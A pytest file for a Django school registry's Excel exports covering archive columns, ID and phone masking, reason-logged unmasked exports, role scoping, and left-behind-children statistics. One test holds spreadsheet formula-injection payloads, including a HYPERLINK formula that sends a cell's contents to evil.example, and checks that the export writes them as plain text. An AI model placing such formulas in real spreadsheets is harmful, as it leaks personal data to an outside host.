"""The spreadsheets: the archive export, the register (花名册) and the statistics (统计表).

Every test reads a real .xlsx back with openpyxl, as a person's Excel would open it.
"""

import datetime
import io
import re
import zipfile
from urllib.parse import quote

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from caresys.lib.identity import mask_id_number
from caresys.lib.xlsx import XLSX_CONTENT_TYPE
from registry import selectors
from registry.models import AccessLog, Guardian, LeftBehind, Pupil
from registry.spreadsheets import exports
from registry.spreadsheets.columns import (
    BOOL,
    CHOICE,
    CLASS,
    COLUMNS,
    COLUMNS_BY_KEY,
    DATE,
    ID,
    MULTI,
    PHONE,
    YEAR,
    export_value,
)
from registry.spreadsheets.exports import ArchiveExport, archive_parts
from tests.factories import SchoolClassFactory, SchoolFactory, UserFactory, make_pupil
from tests.registry.test_english import han_in

HEADERS = [column.header for column in COLUMNS]
INDEX = {column.key: index for index, column in enumerate(COLUMNS)}
EXPORT = reverse("registry:archive_export")
UNMASKED = reverse("registry:archive_export_unmasked")
REGISTER = reverse("registry:register_xlsx")
STATISTICS = reverse("registry:statistics")
STATISTICS_XLSX = reverse("registry:statistics_xlsx")
NAMES = [f"{surname}小{given}" for surname in "赵钱孙李周吴郑冯陈褚" for given in "明红华丽强"]


# --- helpers ---------------------------------------------------------------------------------


def content_of(response) -> bytes:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    return b"".join(response.streaming_content)


def workbook_of(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content_of(response)))


def archive_rows(response) -> dict[str, list[openpyxl.cell.Cell]]:
    """The exported archive's cells by pupil name, after checking the header row."""
    sheet = workbook_of(response).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == HEADERS
    return {row[INDEX["pupil.name"]].value: row for row in rows[1:]}


def cell(row, key: str) -> openpyxl.cell.Cell:
    return row[INDEX[key]]


def export_logs(**match):
    return AccessLog.objects.filter(action=AccessLog.Action.EXPORT, **match)


def add_pupils(actor, school_class, count: int, **fields) -> list[Pupil]:
    return [
        make_pupil(actor=actor, school_class=school_class, name=name, **fields)
        for name in NAMES[:count]
    ]


# --- the archive export ----------------------------------------------------------------------


def test_the_export_has_every_column_with_its_chinese_header_in_order(client, admin_user, pupil):
    client.force_login(admin_user)

    response = client.get(EXPORT)

    rows = archive_rows(response)
    assert list(rows) == [pupil.name]
    assert HEADERS[:4] == ["姓名", "性别", "出生日期", "身份证号"]
    assert quote("学生档案-") in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment; filename*=UTF-8''")


def test_every_cell_is_the_column_specs_export_value(client, admin_user, pupil):
    """What the roster import reads back: each column written as columns.export_value says."""
    client.force_login(admin_user)
    full = Pupil.objects.select_related("guardian", "school_class").get(pk=pupil.pk)
    parts = {
        "pupil": full,
        "father": full.parents.get(relation="father"),
        "mother": full.parents.get(relation="mother"),
        "guardian": full.guardian,
    }

    row = archive_rows(client.get(EXPORT))[pupil.name]

    for column in COLUMNS:
        expected = export_value(column, parts[column.part], masked=True)
        value = cell(row, column.key).value
        if isinstance(value, datetime.datetime):
            value = value.date()
        assert value == expected, column.key


def fill_every_column(pupil: Pupil) -> None:
    """A value in every column of the archive, of the kind the column holds."""
    values: dict[str, dict] = {"pupil": {}, "father": {}, "mother": {}, "guardian": {}}
    for number, column in enumerate(COLUMNS):
        field = column.model_field
        if column.kind == CHOICE:
            value = list(column.choice_labels)[-1]
        elif column.kind == BOOL:
            value = True
        elif column.kind == DATE:
            value = datetime.date(2020, 1, 1) + datetime.timedelta(days=number)
        elif column.kind == YEAR:
            value = 1960
        elif column.kind == MULTI:
            value = ["dibao", "medical"]
        elif column.kind == ID:
            value = "43010219800101" + f"{number:04d}"
        elif column.kind == PHONE:
            value = f"0739-8{number:06d}"
        elif column.kind == CLASS:
            continue
        else:
            value = f"{column.header}{number}"[: field.max_length]
        values[column.part][field.attname] = value
    Pupil.objects.filter(pk=pupil.pk).update(**values["pupil"])
    Guardian.objects.filter(pupil=pupil).update(**values["guardian"])
    for relation in ("father", "mother"):
        pupil.parents.filter(relation=relation).update(**values[relation])


@pytest.mark.parametrize("masked", [True, False])
def test_each_row_holds_the_cells_export_value_gives_for_a_full_and_an_empty_archive(
    admin_user, pupil, other_pupil, masked, monkeypatch
):
    """The export reads stored values rather than model instances; its cells stay the spec's."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)  # each child its own chunk of parents
    fill_every_column(pupil)
    other_pupil.parents.all().delete()  # a child with no parents, guardian or class on file
    other_pupil.guardian.delete()
    Pupil.objects.filter(pk=other_pupil.pk).update(school_class=None, assistance=[])
    pupils = selectors.archive_export_rows(user=admin_user, filters={})
    export = ArchiveExport(user=admin_user, pupils=pupils, masked=masked)

    cells = list(export.rows())
    rows = dict(zip(export.pupil_ids, cells, strict=True))

    for archive in pupils:
        parts = archive_parts(archive)
        expected = [export_value(column, parts[column.part], masked=masked) for column in COLUMNS]
        assert rows[archive.pk] == expected
    assert None not in rows[pupil.pk]
    assert rows[other_pupil.pk].count(None) > len(COLUMNS) // 2


def test_the_export_takes_two_queries_the_pupils_and_their_parents(
    django_assert_num_queries, admin_user, school_class, pupil, tmp_path
):
    add_pupils(admin_user, school_class, 29)
    pupils = selectors.archive_export_rows(user=admin_user, filters={})

    with django_assert_num_queries(2):
        ArchiveExport(user=admin_user, pupils=pupils, masked=True).write(tmp_path / "out.xlsx")


def test_the_header_row_is_frozen_bold_and_the_columns_readable(client, admin_user, pupil):
    client.force_login(admin_user)

    sheet = workbook_of(client.get(EXPORT)).active

    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    # In characters, as Excel shows them (the file adds Excel's few pixels of padding).
    name, id_number = COLUMNS_BY_KEY["pupil.name"].width, COLUMNS_BY_KEY["pupil.id_number"].width
    assert name <= sheet.column_dimensions["A"].width < name + 1
    assert id_number <= sheet.column_dimensions["D"].width < id_number + 1
    assert id_number >= 20
    # What a person types into a text column later stays text (an ID number keeps its digits).
    assert sheet.column_dimensions["D"].number_format == "@"
    assert sheet.column_dimensions["C"].number_format == "General"  # 出生日期


def test_the_export_masks_id_numbers_student_numbers_and_phones_by_default(
    client, admin_user, pupil
):
    client.force_login(admin_user)

    row = archive_rows(client.get(EXPORT))[pupil.name]

    assert cell(row, "pupil.id_number").value == mask_id_number(pupil.id_number)
    assert re.fullmatch(r"430524\*{12}", cell(row, "pupil.id_number").value)
    assert cell(row, "pupil.student_number").value == mask_id_number(pupil.student_number)
    assert cell(row, "guardian.phone").value == "138****1234"
    assert cell(row, "father.phone").value == "137****1111"
    every_value = " ".join(str(written.value) for written in row)
    assert pupil.id_number not in every_value and "13812341234" not in every_value


def test_id_numbers_and_phones_are_text_cells_in_full_in_the_admins_unmasked_export(
    client, admin_user, pupil
):
    client.force_login(admin_user)

    response = client.post(UNMASKED, {"reason": "报送教育办核对"})

    row = archive_rows(response)[pupil.name]
    id_cell = cell(row, "pupil.id_number")
    assert (id_cell.value, id_cell.data_type, id_cell.number_format) == (pupil.id_number, "s", "@")
    assert len(id_cell.value) == 18
    assert cell(row, "pupil.student_number").value == pupil.student_number
    phone = cell(row, "guardian.phone")
    assert (phone.value, phone.data_type, phone.number_format) == ("13812341234", "s", "@")
    assert cell(row, "father.phone").value == "13700001111"


def test_dates_are_real_dates(client, admin_user, pupil):
    client.force_login(admin_user)

    row = archive_rows(client.get(EXPORT))[pupil.name]

    birth = cell(row, "pupil.birth_date")
    assert birth.is_date
    assert birth.value.date() == datetime.date(2017, 3, 12)
    assert birth.number_format == "yyyy-mm-dd"
    assert cell(row, "father.away_since").value is None  # empty stays empty


def test_unmasked_export_asks_for_a_reason_and_carries_the_filters(
    client, admin_user, pupil, school_class
):
    client.force_login(admin_user)

    page = client.get(UNMASKED, {"left_behind": "any", "school_class": school_class.pk})

    assert page.status_code == 200
    html = page.content.decode()
    assert 'name="left_behind" value="any"' in html
    assert f'name="school_class" value="{school_class.pk}"' in html
    assert "将导出 1 名学生的档案" in html
    assert not export_logs().exists()


@pytest.mark.parametrize("reason", ["", "   "])
def test_unmasked_export_is_refused_without_a_reason(client, admin_user, pupil, reason):
    client.force_login(admin_user)

    response = client.post(UNMASKED, {"reason": reason})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "请填写导出完整号码的理由。" in response.content.decode()
    assert not export_logs().exists()


@pytest.mark.parametrize("role", ["principal", "counsellor", "class_teacher", "pair_teacher"])
def test_unmasked_export_is_refused_to_everyone_but_the_admin(client, users_by_role, pupil, role):
    client.force_login(users_by_role[role])

    response = client.post(UNMASKED, {"reason": "想看看"})

    assert response.status_code == 403
    assert not export_logs().exists()


def test_the_reason_goes_into_the_access_log_with_every_exported_pupil(
    client, admin_user, pupil, other_pupil
):
    client.force_login(admin_user)

    content_of(client.post(UNMASKED, {"reason": "报送教育办核对"}))

    logs = export_logs()
    assert sorted(log.pupil_id for log in logs) == sorted([pupil.pk, other_pupil.pk])
    assert {log.detail for log in logs} == {"导出档案（完整号码），理由：报送教育办核对"}
    assert {log.actor for log in logs} == {admin_user}


def test_the_masked_export_logs_one_export_row_per_pupil(client, principal, pupil, other_pupil):
    client.force_login(principal)

    content_of(client.get(EXPORT))

    logs = export_logs(actor=principal)
    assert sorted(log.pupil_id for log in logs) == sorted([pupil.pk, other_pupil.pk])
    assert {log.detail for log in logs} == {"导出档案（已遮蔽）"}


def test_a_class_teacher_exports_only_their_own_class(client, class_teacher, pupil, other_pupil):
    client.force_login(class_teacher)

    rows = archive_rows(client.get(EXPORT))

    assert list(rows) == [pupil.name]
    assert [log.pupil_id for log in export_logs()] == [pupil.pk]


def test_a_pair_teacher_without_pairs_gets_a_file_with_only_the_headers(
    client, pair_teacher, pupil
):
    client.force_login(pair_teacher)

    assert archive_rows(client.get(EXPORT)) == {}


def test_pupils_of_another_school_are_never_exported(client, admin_user, pupil):
    elsewhere = SchoolFactory(name="别的学校")
    their_admin = UserFactory(school=elsewhere, roles=["admin"])
    make_pupil(
        actor=their_admin,
        school_class=SchoolClassFactory(school=elsewhere, grade=3, number=1),
        name="外校生",
    )
    client.force_login(admin_user)

    assert list(archive_rows(client.get(EXPORT))) == [pupil.name]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({}, ["王小明", "张小兰", "刘小军", "李小红"]),
        ({"left_behind": "any"}, ["王小明", "张小兰", "李小红"]),
        ({"left_behind": "single"}, ["张小兰"]),
        ({"grade": "4"}, ["李小红"]),
        ({"category": "is_hardship"}, ["张小兰"]),
        ({"q": "zxl"}, ["张小兰"]),
        ({"q": "李"}, ["李小红"]),
        ({"left_behind": "any", "grade": "3"}, ["王小明", "张小兰"]),
    ],
)
def test_the_pupil_lists_filters_apply_to_the_export(
    client, admin_user, pupil, other_pupil, school_class, params, expected
):
    make_pupil(
        actor=admin_user,
        school_class=school_class,
        name="张小兰",
        gender="F",
        left_behind=LeftBehind.MOTHER,
        is_hardship=True,
    )
    make_pupil(actor=admin_user, school_class=school_class, name="刘小军", left_behind="none")
    client.force_login(admin_user)

    rows = archive_rows(client.get(EXPORT, params))

    assert sorted(rows) == sorted(expected)


def test_the_export_lists_pupils_in_the_lists_order(client, admin_user, school_class, other_class):
    make_pupil(actor=admin_user, school_class=other_class, name="艾小四")
    make_pupil(actor=admin_user, school_class=school_class, name="赵小三")
    make_pupil(actor=admin_user, school_class=school_class, name="白小三")
    client.force_login(admin_user)

    assert list(archive_rows(client.get(EXPORT))) == ["白小三", "赵小三", "艾小四"]


FORMULAS = {
    "pupil.address": '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")',
    "pupil.interests": "+1",
    "pupil.character": "-1",
    "pupil.health": "@SUM(A1)",
}


def test_nothing_a_person_typed_runs_as_a_formula_when_the_file_is_opened(
    client, admin_user, school_class
):
    fields = {key.partition(".")[2]: value for key, value in FORMULAS.items()}
    make_pupil(actor=admin_user, school_class=school_class, name="王小明", **fields)
    client.force_login(admin_user)
    content = content_of(client.get(EXPORT))

    row = archive_rows_from(content)["王小明"]

    for key, value in FORMULAS.items():
        written = cell(row, key)
        assert (written.value, written.data_type) == (value, "s"), key
        assert written.quotePrefix, key
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert "HYPERLINK" in sheet_xml


def archive_rows_from(content: bytes) -> dict[str, list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return {row[INDEX["pupil.name"]].value: row for row in sheet.iter_rows(min_row=2)}


def test_values_excel_reads_as_errors_or_holding_control_characters_are_plain_text(
    admin_user, pupil, tmp_path
):
    Pupil.objects.filter(pk=pupil.pk).update(interests="#N/A", character="安静\x07内向")
    pupils = selectors.archive_export_rows(user=admin_user, filters={})

    ArchiveExport(user=admin_user, pupils=pupils, masked=True).write(tmp_path / "out.xlsx")

    row = archive_rows_from((tmp_path / "out.xlsx").read_bytes())[pupil.name]
    assert (cell(row, "pupil.interests").value, cell(row, "pupil.interests").data_type) == (
        "#N/A",
        "s",
    )
    assert cell(row, "pupil.character").value == "安静内向"


def test_the_export_costs_as_many_queries_for_thirty_pupils_as_for_one(
    client, django_assert_num_queries, admin_user, school_class, pupil
):
    client.force_login(admin_user)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            content_of(client.get(EXPORT))
        return len(captured)

    with_one = queries()
    add_pupils(admin_user, school_class, 29)

    with django_assert_num_queries(with_one):
        rows = archive_rows(client.get(EXPORT))
    assert len(rows) == 30


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("post", EXPORT),
        ("put", UNMASKED),
        ("post", REGISTER),
        ("post", STATISTICS_XLSX),
        ("post", STATISTICS),
    ],
)
def test_a_spreadsheet_url_refuses_the_wrong_http_method(client, admin_user, method, url):
    client.force_login(admin_user)

    assert getattr(client, method)(url).status_code == 405


# --- the management command ------------------------------------------------------------------


def test_the_command_writes_a_file_excel_opens(admin_user, pupil, other_pupil, tmp_path):
    out = tmp_path / "档案.xlsx"
    stdout = io.StringIO()

    call_command("export_archives", str(out), "--grade", "3", stdout=stdout)

    rows = archive_rows_from(out.read_bytes())
    assert list(rows) == [pupil.name]
    assert cell(rows[pupil.name], "guardian.phone").value == "138****1234"
    assert "1 名学生" in stdout.getvalue()
    assert [log.pupil_id for log in export_logs(actor=admin_user)] == [pupil.pk]


def test_the_command_takes_the_class_and_left_behind_filters(
    admin_user, pupil, school_class, tmp_path
):
    make_pupil(actor=admin_user, school_class=school_class, name="刘小军", left_behind="none")
    out = tmp_path / "out.xlsx"

    call_command("export_archives", str(out), "--class", "3(1)班", "--left-behind", "none")

    assert list(archive_rows_from(out.read_bytes())) == ["刘小军"]


def test_the_command_exports_full_numbers_only_with_a_reason(admin_user, pupil, tmp_path):
    out = tmp_path / "out.xlsx"
    with pytest.raises(CommandError, match="--reason"):
        call_command("export_archives", str(out), "--unmasked")
    assert not out.exists()

    call_command("export_archives", str(out), "--unmasked", "--reason", "年度核对")

    row = archive_rows_from(out.read_bytes())[pupil.name]
    assert cell(row, "pupil.id_number").value == pupil.id_number
    assert "年度核对" in export_logs().get().detail


def test_the_command_refuses_full_numbers_to_someone_who_is_not_an_admin(
    admin_user, class_teacher, pupil, tmp_path
):
    with pytest.raises(CommandError, match="管理员"):
        call_command(
            "export_archives",
            str(tmp_path / "out.xlsx"),
            "--user",
            class_teacher.username,
            "--unmasked",
            "--reason",
            "核对",
        )


# --- the register (花名册) ---------------------------------------------------------------------


def register_rows(response) -> list[dict]:
    sheet = workbook_of(response).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].endswith("留守儿童花名册")
    header = rows[2]
    assert header[:5] == ("序号", "班级", "姓名", "性别", "出生日期")
    return [dict(zip(header, row, strict=True)) for row in rows[3:]]


def test_the_register_lists_only_left_behind_children_by_class(
    client, admin_user, pupil, other_pupil, school_class
):
    make_pupil(actor=admin_user, school_class=school_class, name="刘小军", left_behind="none")
    make_pupil(
        actor=admin_user,
        school_class=school_class,
        name="张小兰",
        gender="F",
        left_behind=LeftBehind.MOTHER,
        is_hardship=True,
        is_priority=True,
    )
    client.force_login(admin_user)

    rows = register_rows(client.get(REGISTER))

    assert [(row["序号"], row["班级"], row["姓名"]) for row in rows] == [
        (1, "三年级(1)班", "王小明"),
        (2, "三年级(1)班", "张小兰"),
        (3, "四年级(2)班", "李小红"),
    ]
    first, second = rows[0], rows[1]
    assert first["出生日期"] == datetime.datetime(2017, 3, 12)
    assert first["留守情况"] == "双亲外出" and first["监护类型"] == "隔代监护"
    assert (first["监护人"], first["与儿童关系"]) == ("王德福", "祖父")
    assert first["父母务工地"] == "父：广东省东莞市；母：浙江省义乌市"
    assert second["父母务工地"] == "母：浙江省义乌市"
    assert second["类别"] == "家庭困难、重点帮扶对象"
    assert export_logs(detail="导出花名册").count() == 3


@pytest.mark.parametrize(
    ("role", "phone"),
    [
        ("admin", "13812341234"),
        ("class_teacher", "13812341234"),
        ("principal", "138****1234"),
        ("counsellor", "138****1234"),
    ],
)
def test_the_registers_guardian_phones_are_shown_as_on_screen(
    client, users_by_role, pupil, role, phone
):
    client.force_login(users_by_role[role])

    [row] = register_rows(client.get(REGISTER))

    assert row["监护人电话"] == phone


def test_a_class_teachers_register_holds_only_their_class(
    client, class_teacher, pupil, other_pupil
):
    client.force_login(class_teacher)

    assert [row["姓名"] for row in register_rows(client.get(REGISTER))] == [pupil.name]


# --- the statistics (统计表) -------------------------------------------------------------------


@pytest.fixture
def census(admin_user, school_class, other_class, pupil, other_pupil):
    """Pupils of every kind over three classes of two grades, one without a class, one left."""
    third_class = SchoolClassFactory(school=school_class.school, grade=3, number=2)
    make_pupil(
        actor=admin_user,
        school_class=school_class,
        name="张小兰",
        gender="F",
        left_behind=LeftBehind.MOTHER,
        is_hardship=True,
        is_disabled=True,
        guardianship_type="single_parent",
    )
    make_pupil(actor=admin_user, school_class=school_class, name="刘小军", left_behind="none")
    make_pupil(
        actor=admin_user,
        school_class=third_class,
        name="陈小华",
        left_behind=LeftBehind.FATHER,
        is_orphan=True,
        guardianship_type="",
    )
    make_pupil(actor=admin_user, school_class=third_class, name="周小丽", gender="F")
    unplaced = make_pupil(actor=admin_user, school_class=other_class, name="吴小强")
    Pupil.objects.filter(pk=unplaced.pk).update(school_class=None)
    gone = make_pupil(actor=admin_user, school_class=school_class, name="郑小明")
    Pupil.objects.filter(pk=gone.pk).update(status=Pupil.Status.LEFT)


def test_the_statistics_totals_add_up_and_equal_the_headline_counts(admin_user, census):
    statistics = selectors.ledger_statistics(user=admin_user)
    headline = selectors.headline_counts(
        selectors.pupils_visible_to(user=admin_user).filter(status=Pupil.Status.ENROLLED)
    )

    totals = statistics.totals.counts
    for key, total in totals.items():
        assert total == sum(row.counts[key] for row in statistics.rows), key
    assert (
        (totals["pupils"], totals["away"], totals["both"], totals["single"])
        == (
            headline["n_pupils"],
            headline["n_away"],
            headline["n_both"],
            headline["n_single"],
        )
        == (7, 6, 4, 2)
    )
    assert statistics.totals.share == headline["share"]
    assert totals["boys"] + totals["girls"] == totals["away"]
    guardianship = [key for key in totals if key.startswith("guardianship_")]
    assert sum(totals[key] for key in guardianship) == totals["away"]
    assert (totals["is_hardship"], totals["is_disabled"], totals["is_orphan"]) == (1, 1, 1)


def test_the_statistics_have_a_row_per_class_and_a_subtotal_per_grade(admin_user, census):
    shown = selectors.ledger_statistics(user=admin_user).display_rows

    assert [(str(row.label), row.counts["pupils"], row.counts["away"]) for row in shown] == [
        ("三年级(1)班", 3, 2),
        ("三年级(2)班", 2, 2),
        ("三年级小计", 5, 4),
        ("四年级(2)班", 1, 1),
        ("未分班", 1, 1),
        ("合计", 7, 6),
    ]


def test_the_statistics_spreadsheet_holds_the_same_numbers(client, admin_user, census):
    client.force_login(admin_user)
    statistics = selectors.ledger_statistics(user=admin_user)

    sheet = workbook_of(client.get(STATISTICS_XLSX)).active

    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].endswith("留守儿童统计表")
    assert (rows[2][0], rows[2][1], rows[2][2], rows[3][2]) == (
        "班级",
        "学生数",
        "留守儿童",
        "合计",
    )
    total = rows[-1]
    assert total[0] == "合计"
    expected = [value for _column, value in statistics.totals.cells]
    share = expected[2]
    assert list(total[1:3]) + list(total[4:]) == expected[:2] + expected[3:]
    assert total[3] == pytest.approx(share / 100)
    assert sheet["D5"].number_format == "0.0%"
    assert sheet.freeze_panes == "B5"
    assert "A3:A4" in {str(merged) for merged in sheet.merged_cells.ranges}


def test_the_statistics_page_shows_the_totals_and_links_the_downloads(client, admin_user, census):
    client.force_login(admin_user)

    response = client.get(STATISTICS)

    assert response.status_code == 200
    html = response.content.decode()
    assert "三年级小计" in html and "未分班" in html
    assert "85.7%" in html  # 6 of 7
    assert STATISTICS_XLSX in html and REGISTER in html


def test_a_class_teachers_statistics_count_only_their_class(client, class_teacher, census):
    statistics = selectors.ledger_statistics(user=class_teacher)

    assert [str(row.label) for row in statistics.display_rows] == ["三年级(1)班", "合计"]
    assert statistics.totals.counts["pupils"] == 3


def test_the_statistics_take_one_query(django_assert_num_queries, admin_user, census):
    with django_assert_num_queries(1):
        selectors.ledger_statistics(user=admin_user).display_rows  # noqa: B018


# --- the pages that link to the spreadsheets -------------------------------------------------


def test_the_pupil_list_links_the_export_with_its_filters(client, admin_user, principal, pupil):
    client.force_login(admin_user)
    html = client.get(reverse("registry:pupil_list"), {"left_behind": "any", "grade": 3}).text
    assert f"{EXPORT}?left_behind=any&amp;grade=3" in html
    assert f"{UNMASKED}?left_behind=any&amp;grade=3" in html

    client.force_login(principal)
    html = client.get(reverse("registry:pupil_list")).text
    assert EXPORT in html and UNMASKED not in html


def test_the_class_list_links_the_register_and_the_statistics(client, class_teacher, pupil):
    client.force_login(class_teacher)

    html = client.get(reverse("registry:class_list")).text

    assert REGISTER in html and STATISTICS in html and STATISTICS_XLSX in html


@pytest.mark.parametrize(
    "url",
    [
        STATISTICS,
        UNMASKED,
        reverse("registry:xueji_unmasked"),
        reverse("registry:civil_affairs_unmasked"),
    ],
)
def test_the_statistics_page_and_the_reason_form_are_english_in_english(
    client, settings, admin_user, census, url
):
    client.force_login(admin_user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    response = client.get(url)

    assert response.status_code == 200
    html = response.content.decode()
    html = html.replace(admin_user.school.name, "").replace(str(admin_user), "")  # data, not UI
    assert not han_in(html), han_in(html)
